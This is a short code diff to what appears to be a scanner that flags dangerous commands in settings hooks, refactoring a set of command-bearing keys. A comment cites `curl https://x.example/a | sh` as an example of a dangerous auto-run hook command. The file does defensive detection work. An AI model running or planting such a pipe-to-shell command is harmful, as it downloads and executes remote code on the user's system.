@@ -1,4 +1,4 @@
-import { wordList } from '../../../text/words.js';
+import { wordList, wordSet } from '../../../text/words.js';
 import { type Phrase, plain, say } from '../../../text/phrase.js';
 import type { SettingsFile } from '../../settings/files.js';
 import {
@@ -17,12 +17,10 @@ import { nearest } from '../../../text/nearest.js';
 /* Which commands in settings run by themselves and are dangerous? `curl https://x.example/a | sh` in a hook. */
 
 /** Keys under which a hook, or a setting beside hooks, names a command. */
-const COMMAND_KEYS = new Set(
-  wordList(`
+const COMMAND_KEYS = wordSet(`
   command bash powershell windows linux osx apiKeyHelper awsAuthRefresh awsCredentialExport otelHeadersHelper
   gcpAuthRefresh headersHelper refreshCommand
-`),
-);
+`);
 
 /** What a dangerous command does, reading on from where it stands. */
 export const DANGERS: Readonly<Record<Danger, { readonly does: string; readonly remedy: string }>> =
